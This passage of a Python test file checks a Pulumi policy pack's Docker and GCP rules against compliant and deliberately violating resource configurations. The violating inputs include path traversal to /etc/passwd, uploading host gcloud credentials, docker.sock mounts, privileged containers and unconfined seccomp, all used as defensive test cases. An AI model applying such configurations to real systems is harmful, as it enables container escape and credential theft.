"""Every rule of the policy pack, with violating and compliant cases (the violating ones include an
adversary's tricks), judged four ways that must agree exactly:

- called directly with ``get_config()`` returning {} (no Configure, as in unit tests);
- called directly with the config the Pulumi CLI sends (each schema default, numbers as floats);
- through the pack's real Analyzer gRPC server (policies/__main__.py), never configured;
- through that server configured exactly as the CLI configures it.

A policy config that tries to shrink the settings changes nothing, and preflight drives the pack
in the CLI's order with the CLI's config.
"""

from __future__ import annotations

import copy
import dataclasses
import json
import sys
import threading
from collections.abc import Callable, Iterator
from concurrent import futures
from dataclasses import dataclass
from typing import Any

import grpc
import pytest
from conftest import ROOT
from google.protobuf import json_format, struct_pb2
from pulumi.runtime.proto import analyzer_pb2, analyzer_pb2_grpc

sys.path.insert(0, str(ROOT / "policies"))

from pulumi_policy import (
    EnforcementLevel,
    PolicyCustomTimeouts,
    PolicyProviderResource,
    PolicyResource,
    PolicyResourceOptions,
    ResourceValidationArgs,
    ResourceValidationPolicy,
    StackValidationArgs,
    StackValidationPolicy,
)
from pulumi_policy.deserialize import deserialize_properties
from pulumi_policy.proxy import unknown_checking_proxy
from stagecraft_policy import POLICIES

from preflight.engine import SECRET_SIG, SIG_KEY, Plan, PlannedResource, capture
from preflight.policy import LEVELS, Analyzer, PackProcess, Provider, cli_policy_config, connect, policy_pack

BY_NAME = {policy.name: policy for policy in POLICIES}
Finding = tuple[str, str, str]  # (policy, enforcement, message)

# --------------------------------------------------------------------------------------------
# Resources as the program produces them (provider property names), per environment.

CONTAINER_T = "docker:index/container:Container"
REMOTE_IMAGE_T = "docker:index/remoteImage:RemoteImage"
IMAGE_T = "docker:index/image:Image"
NETWORK_T = "docker:index/network:Network"
VOLUME_T = "docker:index/volume:Volume"
COMMAND_T = "command:local:Command"
BUCKET_T = "gcp:storage/bucket:Bucket"
BUCKET_MEMBER_T = "gcp:storage/bucketIAMMember:BucketIAMMember"
PROJECT_MEMBER_T = "gcp:projects/iAMMember:IAMMember"
SECRET_T = "gcp:secretmanager/secret:Secret"
SECRET_MEMBER_T = "gcp:secretmanager/secretIamMember:SecretIamMember"
VERSION_T = "gcp:secretmanager/secretVersion:SecretVersion"
ACCOUNT_T = "gcp:serviceaccount/account:Account"
KEY_T = "gcp:serviceaccount/key:Key"
PASSWORD_T = "random:index/randomPassword:RandomPassword"
NNP = "no-new-privileges:true"


def secret(value: str) -> dict[str, str]:
    """Pulumi's wire envelope for a secret value."""
    return {SIG_KEY: SECRET_SIG, "value": value}


def project(env: str) -> str:
    return f"acme-{env}-4711"


def email(env: str, workload: str = "api") -> str:
    return f"acme-{env}-{workload}@{project(env)}.iam.gserviceaccount.com"


def labels(env: str, **extra: str) -> dict[str, str]:
    return {"app": "acme", "environment": env, "stack": env, "managed-by": "pulumi", **extra}


def docker_labels(env: str) -> list[dict[str, str]]:
    return [{"label": k, "value": v} for k, v in labels(env).items()]


def image_id(seed: str) -> str:
    return "sha256:" + (seed * 64)[:64]


def changed(props: dict[str, Any], drop: tuple[str, ...] = (), **changes: Any) -> dict[str, Any]:
    result = {k: v for k, v in copy.deepcopy(props).items() if k not in drop}
    result.update(changes)
    return result


def service(env: str = "staging", **changes: Any) -> dict[str, Any]:
    """A long-running service container like the API's."""
    props = {
        "name": f"acme-{env}-api",
        "image": image_id("a"),
        "user": "10001:10001",
        "envs": [
            "LOG_LEVEL=INFO",
            "DATABASE_PASSWORD_FILE=/run/stagecraft/secrets/app-db-password",
            "GOOGLE_APPLICATION_CREDENTIALS=/run/stagecraft/secrets/gcp-key.json",
            "POSTGRES_HOST_AUTH_METHOD=scram-sha-256",
            "GF_AUTH_ANONYMOUS_ENABLED=false",
            "DATA_SOURCE_URI=db:5432/postgres?sslmode=disable",
        ],
        "command": ["postgres", "-c", "password_encryption=scram-sha-256", "-c", "listen_addresses=*"],
        "entrypoints": ["temporal-server", "--allow-no-auth", "start"],
        "memory": 512,
        "memorySwap": 512,
        "cpus": "0.5",
        "healthcheck": {
            "tests": [
                "CMD-SHELL",
                'REDISCLI_AUTH="$(cat /run/stagecraft/secrets/redis-password)" redis-cli --user healthcheck ping',
            ],
            "interval": "30s",
            "timeout": "10s",
            "retries": 3,
        },
        "logDriver": "json-file",
        "logOpts": {"max-size": "50m", "max-file": "3"},
        "restart": "unless-stopped",
        "mustRun": True,
        "attach": False,
        "wait": True,
        "securityOpts": [NNP],
        "capabilities": {"drops": ["ALL"]},
        "readOnly": True,
        "privileged": False,
        "tmpfs": {"/tmp": "rw,noexec,nosuid,size=64m"},
        "ulimits": [{"name": "nofile", "soft": 65536, "hard": 65536}],
        "mounts": [
            {"type": "volume", "source": f"acme-{env}-api-data", "target": "/data"},
            {"type": "volume", "source": f"acme-{env}-api-files", "target": "/run/stagecraft", "readOnly": True},
        ],
        "networksAdvanced": [{"name": f"acme-{env}-app", "aliases": ["api"]}],
        "labels": docker_labels(env),
    }
    props.update(changes)
    return props


def job(env: str = "staging", **changes: Any) -> dict[str, Any]:
    base = changed(service(env), drop=("healthcheck", "wait"), mustRun=False, attach=True, restart="no")
    base.update(changes)
    return base


def carrier(env: str = "staging", **changes: Any) -> dict[str, Any]:
    props = {
        "name": f"acme-{env}-api-files",
        "image": image_id("a"),
        "start": False,
        "mustRun": False,
        "networkMode": "none",
        "user": "10001:10001",
        "uploads": [
            {
                "file": "/run/stagecraft/secrets/app-db-password",
                "content": secret("generated-app-db-password"),
                "permissions": "0400",
                "owner": "10001",
                "group": "10001",
            },
            {
                "file": "/run/stagecraft/config/entrypoint.sh",
                "content": "#!/bin/sh\nexec app\n",
                "permissions": "0555",
                "owner": "10001",
                "group": "10001",
            },
        ],
        "mounts": [{"type": "volume", "source": f"acme-{env}-api-files", "target": "/run/stagecraft"}],
        "securityOpts": [NNP],
        "capabilities": {"drops": ["ALL"]},
        "labels": docker_labels(env),
    }
    props.update(changes)
    return props


def volume_owner(env: str = "staging", **changes: Any) -> dict[str, Any]:
    base = job(
        env,
        name=f"acme-{env}-chroma-volume-owner",
        user="0:0",
        networkMode="none",
        networksAdvanced=[],
        entrypoints=["chown", "-R", "1000:1000", "/data"],
        capabilities={"drops": ["ALL"], "adds": ["CHOWN"]},
        mounts=[{"type": "volume", "source": f"acme-{env}-chroma-data", "target": "/data"}],
        envs=[],
    )
    base.pop("command")
    base.update(changes)
    return base


def proxy(env: str = "staging", **changes: Any) -> dict[str, Any]:
    external = (80, 443) if env == "prod" else (8080, 8443)
    base = service(
        env,
        name=f"acme-{env}-proxy",
        image=image_id("b"),
        user="101:101",
        entrypoints=["nginx"],
        command=["-c", "/run/stagecraft/config/nginx.conf", "-g", "daemon off;"],
        ports=[
            {"internal": 8080, "external": external[0], "ip": "0.0.0.0"},
            {"internal": 8443, "external": external[1], "ip": "0.0.0.0"},
        ],
        mounts=[{"type": "volume", "source": f"acme-{env}-proxy-files", "target": "/run/stagecraft", "readOnly": True}],
        networksAdvanced=[{"name": f"acme-{env}-edge"}, {"name": f"acme-{env}-app"}],
    )
    base.update(changes)
    return base


def bucket(env: str = "staging", **changes: Any) -> dict[str, Any]:
    props = {
        "name": f"{project(env)}-{env}-backups",
        "project": project(env),
        "location": "EU",
        "uniformBucketLevelAccess": True,
        "publicAccessPrevention": "enforced",
        "versioning": {"enabled": True},
        "forceDestroy": env != "prod",
        "softDeletePolicy": {"retentionDurationSeconds": 2592000},
        "lifecycleRules": [
            {"condition": {"age": 30, "withState": "ANY"}, "action": {"type": "Delete"}},
            {"condition": {"daysSinceNoncurrentTime": 30, "withState": "ARCHIVED"}, "action": {"type": "Delete"}},
            {"condition": {"age": 1}, "action": {"type": "AbortIncompleteMultipartUpload"}},
        ],
        "labels": labels(env, purpose="backups"),
    }
    props.update(changes)
    return props


def gcp_secret(env: str = "staging", name: str = "app-db-password", **changes: Any) -> dict[str, Any]:
    props = {
        "secretId": f"{env}-{name}",
        "project": project(env),
        "replication": {"auto": {}},
        "deletionProtection": env == "prod",
        "labels": labels(env, secret=name),
    }
    props.update(changes)
    return props


def version(env: str = "staging", name: str = "app-db-password", value: str = "value-one-1234") -> dict[str, Any]:
    return {
        "secret": f"projects/{project(env)}/secrets/{env}-{name}",
        "secretDataWo": secret(value),
        "secretDataWoVersion": "1",
        "deletionPolicy": "DELETE",
    }


def secret_member(env: str = "staging", **changes: Any) -> dict[str, Any]:
    props = {
        "secretId": f"projects/{project(env)}/secrets/{env}-app-db-password",
        "project": project(env),
        "role": "roles/secretmanager.secretAccessor",
        "member": f"serviceAccount:{email(env)}",
    }
    props.update(changes)
    return props


def bucket_member(env: str = "staging", **changes: Any) -> dict[str, Any]:
    props = {
        "bucket": f"{project(env)}-{env}-backups",
        "role": "roles/storage.objectCreator",
        "member": f"serviceAccount:{email(env, 'backup')}",
    }
    props.update(changes)
    return props


def project_member(env: str = "staging", **changes: Any) -> dict[str, Any]:
    props = {"project": project(env), "role": "roles/logging.logWriter", "member": f"serviceAccount:{email(env)}"}
    props.update(changes)
    return props


def account(env: str = "staging", **changes: Any) -> dict[str, Any]:
    props = {"accountId": f"acme-{env}-api", "project": project(env), "displayName": f"acme {env} api workload"}
    props.update(changes)
    return props


def key(env: str = "staging", **changes: Any) -> dict[str, Any]:
    props = {"serviceAccountId": f"projects/{project(env)}/serviceAccounts/{email(env)}", "keepers": {"g": "1"}}
    props.update(changes)
    return props


def network(env: str = "staging", purpose: str = "app", **changes: Any) -> dict[str, Any]:
    props = {
        "name": f"acme-{env}-{purpose}",
        "driver": "bridge",
        "internal": purpose != "edge",
        "ipamConfigs": [{"subnet": "10.210.1.0/24", "gateway": "10.210.1.1"}],
        "labels": docker_labels(env),
    }
    props.update(changes)
    return props


def volume(env: str = "staging", purpose: str = "api-data", **changes: Any) -> dict[str, Any]:
    props = {"name": f"acme-{env}-{purpose}", "labels": docker_labels(env)}
    props.update(changes)
    return props


def remote_image(reference: str, seed: str) -> dict[str, Any]:
    """A RemoteImage's outputs: its reference and the image ID containers run."""
    return {"name": reference, "keepLocally": True, "imageId": image_id(seed), "repoDigest": f"x@{image_id(seed)}"}


def pids_command(**changes: Any) -> dict[str, Any]:
    props = {
        "create": f"docker update --pids-limit 512 {'c' * 64}",
        "environment": {"DOCKER_HOST": "ssh://deploy@apps-01.acme.example.com"},
        "triggers": ["c" * 64],
    }
    props.update(changes)
    return props


def local_build(**changes: Any) -> dict[str, Any]:
    props = {
        "imageName": "stagecraft/ops:1.0.0",
        "skipPush": True,
        "build": {"context": "images/ops", "dockerfile": "images/ops/Dockerfile", "args": {"PG_MAJOR": "15"}},
    }
    props.update(changes)
    return props


# --------------------------------------------------------------------------------------------
# Cases


@dataclass
class Case:
    """One resource judged by every resource policy; ``violates``: the policy must fire (else
    nothing at all may fire)."""

    policy: str
    type: str
    props: dict[str, Any]
    violates: bool
    stack: str = "staging"
    name: str = "thing"
    protect: bool = False
    provider: Provider | None = None
    label: str = ""

    def resource(self) -> PlannedResource:
        return planned(self.stack, self.type, self.name, self.props, self.protect)

    def __str__(self) -> str:
        return f"{self.policy}-{'bad' if self.violates else 'ok'}-{self.label or self.stack}"


@dataclass
class StackCase:
    """A whole stack judged by every stack policy."""

    policy: str
    resources: list[tuple[str, str, dict[str, Any], bool]]  # (type, name, outputs, protect)
    violates: bool
    stack: str = "staging"
    label: str = ""

    def planned(self) -> list[PlannedResource]:
        return [planned(self.stack, t, n, p, protect) for t, n, p, protect in self.resources]

    def __str__(self) -> str:
        return f"{self.policy}-{'bad' if self.violates else 'ok'}-{self.label or self.stack}"


def planned(stack: str, type_: str, name: str, props: dict[str, Any], protect: bool) -> PlannedResource:
    return PlannedResource(
        urn=f"urn:pulumi:{stack}::stagecraft::{type_}::{name}",
        type=type_,
        name=name,
        parent="",
        inputs={},
        protect=protect,
        retain_on_delete=False,
        dependencies=[],
        custom=True,
        raw_inputs=props,
    )


def bad(policy: str, type_: str, props: dict[str, Any], label: str, **options: Any) -> Case:
    return Case(policy, type_, props, True, label=label, **options)


def ok(policy: str, type_: str, props: dict[str, Any], label: str = "", **options: Any) -> Case:
    return Case(policy, type_, props, False, label=label, **options)


GCP_PROVIDER = Provider(
    urn="urn:pulumi:staging::stagecraft::pulumi:providers:gcp::default_10_2_0",
    type="pulumi:providers:gcp",
    name="default_10_2_0",
    inputs={"project": project("staging"), "region": "europe-west1", "version": "10.2.0"},
)
FOREIGN_PROVIDER = Provider(GCP_PROVIDER.urn, GCP_PROVIDER.type, GCP_PROVIDER.name, {"project": "someone-else-1"})
PROD = {"stack": "prod"}

RESOURCE_CASES: list[Case] = [
    # allowed-resource-types
    bad("allowed-resource-types", "gcp:compute/instance:Instance", {"name": "x"}, "compute-instance"),
    bad("allowed-resource-types", "aws:s3/bucket:Bucket", {}, "other-cloud"),
    bad("allowed-resource-types", "command:remote:Command", {"create": "id"}, "remote-command"),
    bad("allowed-resource-types", "stagecraft:evil:Remote", {}, "component-with-provider", provider=GCP_PROVIDER),
    ok("allowed-resource-types", PASSWORD_T, {"length": 32, "special": True}),
    ok("allowed-resource-types", "stagecraft:platform:Platform", {}, "component"),
    # gcp-ownership
    bad("gcp-ownership", SECRET_T, gcp_secret(project=project("prod")), "other-project"),
    bad("gcp-ownership", BUCKET_T, changed(bucket(), drop=("project",)), "project-defaulted"),
    bad("gcp-ownership", BUCKET_T, bucket(name="acme-staging-4711-uploads"), "bucket-name"),
    bad("gcp-ownership", ACCOUNT_T, account(accountId="acme-prod-api"), "account-other-env"),
    bad("gcp-ownership", BUCKET_T, bucket("dev"), "env-without-projects", stack="dev"),
    bad("gcp-ownership", "pulumi:providers:gcp", {"project": "acme-prod-4711"}, "provider-project"),
    bad("gcp-ownership", SECRET_T, gcp_secret(), "via-provider", provider=FOREIGN_PROVIDER),
    ok("gcp-ownership", SECRET_T, gcp_secret(), provider=GCP_PROVIDER),
    ok("gcp-ownership", ACCOUNT_T, account()),
    ok("gcp-ownership", "pulumi:providers:gcp", GCP_PROVIDER.inputs, "provider"),
    # service-account-key-own
    bad("service-account-key-own", KEY_T, key(serviceAccountId="projects/-/serviceAccounts/123"), "dash-numeric"),
    bad("service-account-key-own", KEY_T, key(serviceAccountId="112233445566778899"), "unique-id"),
    bad("service-account-key-own", KEY_T, key(serviceAccountId=email("prod")), "prod-account"),
    bad("service-account-key-own", KEY_T, key(publicKeyData="LS0tLS1CRUdJTi=="), "uploaded-public-key"),
    ok("service-account-key-own", KEY_T, key()),
    ok("service-account-key-own", KEY_T, key(serviceAccountId=email("staging")), "by-email"),
    # iam-members-only
    bad(
        "iam-members-only",
        "gcp:secretmanager/secretIamBinding:SecretIamBinding",
        {
            "secretId": secret_member()["secretId"],
            "role": "roles/secretmanager.secretAccessor",
            "members": [f"serviceAccount:{email('staging')}"],
        },
        "secret-binding",
    ),
    bad(
        "iam-members-only",
        "gcp:projects/iAMPolicy:IAMPolicy",
        {"project": project("staging"), "policyData": '{"bindings":[{"role":"roles/viewer","members":["allUsers"]}]}'},
        "policy-all-users",
    ),
    bad(
        "iam-members-only",
        "gcp:organizations/iAMMember:IAMMember",
        {"orgId": "1234", "role": "roles/viewer", "member": f"serviceAccount:{email('staging')}"},
        "organization",
    ),
    bad(
        "iam-members-only",
        "gcp:serviceaccount/iAMMember:IAMMember",
        {"serviceAccountId": key()["serviceAccountId"], "role": "roles/iam.serviceAccountTokenCreator", "member": "x"},
        "service-account-iam",
    ),
    bad("iam-members-only", "gcp:storage/bucketACL:BucketACL", {"roleEntities": ["READER:allUsers"]}, "acl"),
    ok("iam-members-only", SECRET_MEMBER_T, secret_member()),
    # iam-project-grants
    bad(
        "iam-project-grants",
        PROJECT_MEMBER_T,
        project_member(role="roles/iam.serviceAccountTokenCreator"),
        "token-creator",
    ),
    bad("iam-project-grants", PROJECT_MEMBER_T, project_member(role="roles/editor"), "primitive"),
    ok("iam-project-grants", PROJECT_MEMBER_T, project_member()),
    # secret-accessor-same-environment
    bad(
        "secret-accessor-same-environment",
        SECRET_MEMBER_T,
        secret_member(secretId="projects/123456789/secrets/staging-app-db-password"),
        "project-number",
    ),
    bad("secret-accessor-same-environment", SECRET_MEMBER_T, secret_member(secretId="staging-x"), "bare-id"),
    bad(
        "secret-accessor-same-environment",
        SECRET_MEMBER_T,
        secret_member(role="roles/secretmanager.admin"),
        "admin-role",
    ),
    bad(
        "secret-accessor-same-environment",
        SECRET_MEMBER_T,
        secret_member(secretId=f"projects/{project('staging')}/secrets/prod-app-db-password"),
        "prod-secret",
    ),
    ok("secret-accessor-same-environment", SECRET_MEMBER_T, secret_member()),
    # iam-bucket-grants
    bad("iam-bucket-grants", BUCKET_MEMBER_T, bucket_member(role="roles/storage.admin"), "admin"),
    bad("iam-bucket-grants", BUCKET_MEMBER_T, bucket_member(bucket="someone-elses-bucket"), "foreign-bucket"),
    ok("iam-bucket-grants", BUCKET_MEMBER_T, bucket_member()),
    # iam-members-own
    bad(
        "iam-members-own",
        PROJECT_MEMBER_T,
        project_member(member="serviceAccount:acme-staging-api@other-proj-1234.iam.gserviceaccount.com"),
        "other-project",
    ),
    bad("iam-members-own", SECRET_MEMBER_T, secret_member(member="user:eve@example.com"), "user"),
    bad("iam-members-own", BUCKET_MEMBER_T, bucket_member(member="allUsers"), "public"),
    bad("iam-members-own", BUCKET_MEMBER_T, bucket_member(member="principalSet://goog/public:all"), "principal"),
    bad("iam-members-own", SECRET_MEMBER_T, secret_member(member=f"serviceAccount:{email('prod')}"), "prod-account"),
    bad(
        "iam-members-own",
        BUCKET_MEMBER_T,
        bucket_member(member="group:cloud-storage-analytics@google.com"),
        "group-not-listed-here",
    ),
    ok("iam-members-own", SECRET_MEMBER_T, secret_member()),
    ok(
        "iam-members-own",
        BUCKET_MEMBER_T,
        bucket_member("prod", member="group:cloud-storage-analytics@google.com"),
        "listed-group",
        **PROD,
    ),
    # secret-environment-agrees
    bad("secret-environment-agrees", SECRET_T, gcp_secret(secretId="prod-app-db-password"), "prod-id"),
    ok("secret-environment-agrees", SECRET_T, gcp_secret()),
    # no-foreign-environment-labels
    bad("no-foreign-environment-labels", VOLUME_T, volume(labels=docker_labels("prod")), "prod-labels"),
    ok("no-foreign-environment-labels", VOLUME_T, volume()),
    # secret-version-own-environment
    bad("secret-version-own-environment", VERSION_T, version("prod"), "prod-secret"),
    bad(
        "secret-version-own-environment",
        VERSION_T,
        {**version(), "secret": "projects/123/secrets/staging-app-db-password"},
        "project-number",
    ),
    ok("secret-version-own-environment", VERSION_T, version()),
    # no-production-references
    bad(
        "no-production-references",
        CONTAINER_T,
        service(envs=["DATABASE_HOST=acme-prod-postgres"]),
        "prod-host",
    ),
    ok("no-production-references", CONTAINER_T, service()),
    # no-other-environment-projects
    bad(
        "no-other-environment-projects",
        CONTAINER_T,
        service("prod", envs=["GOOGLE_CLOUD_PROJECT=acme-staging-4711"]),
        "staging-project-in-prod",
        **PROD,
    ),
    ok("no-other-environment-projects", CONTAINER_T, service("prod"), **PROD),
    # no-seed-in-production
    bad(
        "no-seed-in-production",
        CONTAINER_T,
        job("prod", entrypoints=["/opt/ops/bin/python", "-m", "stagecraft_ops", "seed", "load"]),
        "seed-arguments",
        **PROD,
    ),
    bad(
        "no-seed-in-production",
        CONTAINER_T,
        carrier(
            "prod",
            uploads=[
                {
                    "file": "/run/stagecraft/config/seed.sh",
                    "content": "#!/bin/sh\nset -eu\n/opt/ops/bin/python -m stagecraft_ops  seed generate --spec x\n",
                    "permissions": "0555",
                    "owner": "999",
                    "group": "999",
                }
            ],
        ),
        "seed-script",
        **PROD,
    ),
    bad(
        "no-seed-in-production",
        CONTAINER_T,
        job("prod", labels=[*docker_labels("prod"), {"label": "service", "value": "seed"}]),
        "seed-label",
        **PROD,
    ),
    ok("no-seed-in-production", CONTAINER_T, job("prod", command=["backup", "--reason", "pre-migration"]), **PROD),
    # In staging the seed job is what it is for.
    ok(
        "no-seed-in-production",
        CONTAINER_T,
        job(entrypoints=["/opt/ops/bin/python", "-m", "stagecraft_ops", "seed", "load"]),
    ),
    # bucket-private
    bad("bucket-private", BUCKET_T, bucket(publicAccessPrevention="inherited"), "public-access"),
    bad("bucket-private", BUCKET_T, bucket(uniformBucketLevelAccess=False), "acls"),
    ok("bucket-private", BUCKET_T, bucket()),
    # prod-bucket-durable
    bad("prod-bucket-durable", BUCKET_T, bucket("prod", forceDestroy=True), "force-destroy", protect=True, **PROD),
    bad("prod-bucket-durable", BUCKET_T, bucket("prod", versioning={"enabled": False}), "off", protect=True, **PROD),
    bad(
        "prod-bucket-durable",
        BUCKET_T,
        bucket("prod", softDeletePolicy={"retentionDurationSeconds": 86400}),
        "soft-delete",
        protect=True,
        **PROD,
    ),
    bad(
        "prod-bucket-durable",
        BUCKET_T,
        bucket("prod", lifecycleRules=[{"condition": {"age": 1}, "action": {"type": "Delete"}}]),
        "delete-at-1-day",
        protect=True,
        **PROD,
    ),
    bad(
        "prod-bucket-durable",
        BUCKET_T,
        bucket("prod", lifecycleRules=[{"condition": {"numNewerVersions": 1}, "action": {"type": "Delete"}}]),
        "delete-without-floor",
        protect=True,
        **PROD,
    ),
    bad(
        "prod-bucket-durable",
        BUCKET_T,
        bucket(
            "prod",
            lifecycleRules=[
                {"condition": {"daysSinceNoncurrentTime": 1, "withState": "ARCHIVED"}, "action": {"type": "Delete"}}
            ],
        ),
        "noncurrent-1-day",
        protect=True,
        **PROD,
    ),
    ok("prod-bucket-durable", BUCKET_T, bucket("prod"), protect=True, **PROD),
    # prod-data-protected
    bad("prod-data-protected", BUCKET_T, bucket("prod"), "bucket", **PROD),
    bad("prod-data-protected", SECRET_T, gcp_secret("prod", deletionProtection=False), "secret", protect=True, **PROD),
    ok("prod-data-protected", SECRET_T, gcp_secret("prod"), protect=True, **PROD),
    # required-labels (advisory outside prod) and prod-required-labels
    bad("required-labels", NETWORK_T, changed(network(), drop=("labels",)), "network"),
    ok("required-labels", NETWORK_T, network()),
    bad("prod-required-labels", BUCKET_T, bucket("prod", labels={"app": "acme"}), "bucket", protect=True, **PROD),
    ok("prod-required-labels", NETWORK_T, network("prod"), **PROD),
    # container-host-isolation
    bad("container-host-isolation", CONTAINER_T, service(privileged=True), "privileged"),
    bad(
        "container-host-isolation",
        CONTAINER_T,
        service(devices=[{"hostPath": "/dev/kvm", "containerPath": "/dev/kvm"}]),
        "device",
    ),
    bad("container-host-isolation", CONTAINER_T, service(gpus="all"), "gpus"),
    bad("container-host-isolation", CONTAINER_T, service(pidMode="host"), "pid-host"),
    bad("container-host-isolation", CONTAINER_T, service(ipcMode="container:acme-staging-postgres"), "ipc-container"),
    bad("container-host-isolation", CONTAINER_T, service(networkMode="container:x"), "network-container"),
    bad("container-host-isolation", CONTAINER_T, service(networkMode="host"), "network-host"),
    bad("container-host-isolation", CONTAINER_T, changed(service(), drop=("networksAdvanced",)), "default-bridge"),
    bad("container-host-isolation", CONTAINER_T, service(networksAdvanced=[{"name": "acme-prod-data"}]), "prod-net"),
    bad("container-host-isolation", CONTAINER_T, service(cgroupParent="/"), "cgroup-parent"),
    bad("container-host-isolation", CONTAINER_T, service(sysctls={"kernel.shm_rmid_forced": "1"}), "sysctls"),
    bad("container-host-isolation", CONTAINER_T, service(someFutureInput=True), "unknown-input"),
    bad("container-host-isolation", CONTAINER_T, service(name="acme-prod-postgres"), "prod-name"),
    bad(
        "container-host-isolation",
        CONTAINER_T,
        changed(service(), drop=("networksAdvanced",), networkMode="bridge"),
        "on-docker0",
    ),
    ok("container-host-isolation", CONTAINER_T, service()),
    # The provider's default network mode, left as soon as the container joins its networks.
    ok("container-host-isolation", CONTAINER_T, service(networkMode="bridge"), "provider-default-mode"),
    ok("container-host-isolation", CONTAINER_T, volume_owner(), "no-network-job"),
    # container-mounts
    bad(
        "container-mounts",
        CONTAINER_T,
        service(mounts=[{"type": "bind", "source": "/", "target": "/host"}]),
        "bind-root",
    ),
    bad(
        "container-mounts",
        CONTAINER_T,
        service(volumes=[{"hostPath": "/var/run/docker.sock", "containerPath": "/var/run/docker.sock"}]),
        "docker-sock-volume",
    ),
    bad(
        "container-mounts",
        CONTAINER_T,
        service(mounts=[{"type": "volume", "source": "acme-staging-x", "target": "/run/docker.sock"}]),
        "docker-sock-target",
    ),
    bad(
        "container-mounts",
        CONTAINER_T,
        service(
            mounts=[
                {
                    "type": "volume",
                    "source": "acme-staging-x",
                    "target": "/x",
                    "volumeOptions": {"driverOptions": {"type": "none", "o": "bind", "device": "/etc"}},
                }
            ]
        ),
        "volume-bind-options",
    ),
    bad(
        "container-mounts",
        CONTAINER_T,
        service(mounts=[{"type": "volume", "source": "acme-prod-postgres-data", "target": "/data"}]),
        "prod-volume",
    ),
    bad("container-mounts", CONTAINER_T, service(volumes=[{"fromContainer": "acme-staging-postgres"}]), "from"),
    bad("container-mounts", CONTAINER_T, service(envs=["DOCKER_HOST=tcp://172.17.0.1:2375"]), "docker-host"),
    ok("container-mounts", CONTAINER_T, service()),
    # container-files
    bad("container-files", CONTAINER_T, service(uploads=carrier()["uploads"]), "upload-into-service"),
    bad(
        "container-files",
        CONTAINER_T,
        carrier(uploads=[{**carrier()["uploads"][0], "source": "/home/runner/.config/gcloud/credentials.db"}]),
        "host-file",
    ),
    bad(
        "container-files",
        CONTAINER_T,
        carrier(uploads=[{**carrier()["uploads"][1], "permissions": "4755", "owner": "0", "group": "0"}]),
        "setuid-root",
    ),
    bad(
        "container-files",
        CONTAINER_T,
        carrier(uploads=[{**carrier()["uploads"][0], "file": "/run/stagecraft/../../etc/passwd"}]),
        "escape",
    ),
    ok("container-files", CONTAINER_T, carrier()),
    # container-capabilities
    bad(
        "container-capabilities",
        CONTAINER_T,
        service(capabilities={"drops": ["ALL"], "adds": ["SYS_ADMIN"]}),
        "sys-admin",
    ),
    bad("container-capabilities", CONTAINER_T, service(capabilities={"adds": ["CHOWN"]}), "no-drop"),
    bad("container-capabilities", CONTAINER_T, service(capabilities={"drops": ["ALL"], "adds": ["cap_net_raw"]}), "r"),
    ok(
        "container-capabilities",
        CONTAINER_T,
        service(capabilities={"drops": ["ALL"], "adds": ["NET_BIND_SERVICE"]}),
        "bind-service",
    ),
    # container-security-options
    bad("container-security-options", CONTAINER_T, service(securityOpts=[NNP, "seccomp=unconfined"]), "seccomp"),
    bad("container-security-options", CONTAINER_T, service(securityOpts=[NNP, "apparmor:unconfined"]), "apparmor"),
    bad("container-security-options", CONTAINER_T, service(securityOpts=[NNP, "label=disable"]), "label"),
    bad("container-security-options", CONTAINER_T, service(securityOpts=[NNP, "systempaths=unconfined"]), "paths"),
    bad(
        "container-security-options",
        CONTAINER_T,
        service(securityOpts=[NNP, 'seccomp={"defaultAction":"SCMP_ACT_ALLOW"}']),
        "seccomp-profile",
    ),
    bad("container-security-options", CONTAINER_T, service(securityOpts=["no-new-privileges:false"]), "nnp-false"),
    ok(
        "container-security-options",
        CONTAINER_T,
        service(securityOpts=[NNP, "apparmor=docker-default", "label=type:container_t"]),
        "profiles",
    ),
    # container-non-root
    bad("container-non-root", CONTAINER_T, service(user="0:0"), "root-service"),
    bad("container-non-root", CONTAINER_T, service(user="root"), "root-name"),
    bad("container-non-root", CONTAINER_T, service(user="postgres"), "user-name"),
    bad("container-non-root", CONTAINER_T, changed(service(), drop=("user",)), "image-default"),
    bad("container-non-root", CONTAINER_T, volume_owner(command=["/etc"]), "owner-extra-paths"),
    bad("container-non-root", CONTAINER_T, volume_owner(entrypoints=["chown", "-R", "0:0", "/etc"]), "owner-not-mount"),
    bad(
        "container-non-root",
        CONTAINER_T,
        volume_owner(entrypoints=["sh", "-c", "chown -R 1000:1000 /data"]),
        "owner-shell",
    ),
    bad(
        "container-non-root",
        CONTAINER_T,
        volume_owner(networkMode=None, networksAdvanced=[{"name": "acme-staging-app"}]),
        "owner-networked",
    ),
    bad("container-non-root", CONTAINER_T, volume_owner(mustRun=True), "owner-keeps-running"),
    ok("container-non-root", CONTAINER_T, volume_owner(), "volume-owner"),
    ok("container-non-root", CONTAINER_T, service()),
    # container-limits
    bad("container-limits", CONTAINER_T, service(readOnly=False), "writable-root"),
    bad("container-limits", CONTAINER_T, changed(service(), drop=("healthcheck",)), "no-healthcheck"),
    bad("container-limits", CONTAINER_T, service(healthcheck={"tests": ["NONE"]}), "healthcheck-none"),
    bad("container-limits", CONTAINER_T, changed(service(), drop=("memory",)), "no-memory"),
    bad("container-limits", CONTAINER_T, changed(service(), drop=("cpus",)), "no-cpus"),
    bad("container-limits", CONTAINER_T, service(memorySwap=-1), "unlimited-swap"),
    bad(
        "container-limits",
        CONTAINER_T,
        service(logDriver="syslog", logOpts={"syslog-address": "tcp://logs.example.com:514"}),
        "syslog",
    ),
    bad("container-limits", CONTAINER_T, job(restart="always"), "job-restarts"),
    bad("container-limits", CONTAINER_T, carrier(networkMode=None), "carrier-networked"),
    ok("container-limits", CONTAINER_T, job(), "job"),
    ok("container-limits", CONTAINER_T, carrier(), "carrier"),
    # no-plaintext-secret-env
    bad("no-plaintext-secret-env", CONTAINER_T, service(envs=["TOKEN=abc"]), "token-env"),
    bad("no-plaintext-secret-env", CONTAINER_T, service(envs=["DB_PASSWORD=hunter2"]), "password-env"),
    bad(
        "no-plaintext-secret-env",
        CONTAINER_T,
        service(envs=["DATABASE_URL=postgresql://app:hunter2@db:5432/app"]),
        "url-env",
    ),
    bad("no-plaintext-secret-env", CONTAINER_T, service(envs=["REDIS_URL=redis://:hunter2@redis:6379"]), "url-no-user"),
    bad(
        "no-plaintext-secret-env",
        CONTAINER_T,
        service(command=["redis-server", "--requirepass", "hunter2"]),
        "requirepass",
    ),
    bad(
        "no-plaintext-secret-env",
        CONTAINER_T,
        service(entrypoints=["sh", "-c", "redis-server --port 6379 --requirepass=hunter2"]),
        "requirepass-shell",
    ),
    bad(
        "no-plaintext-secret-env",
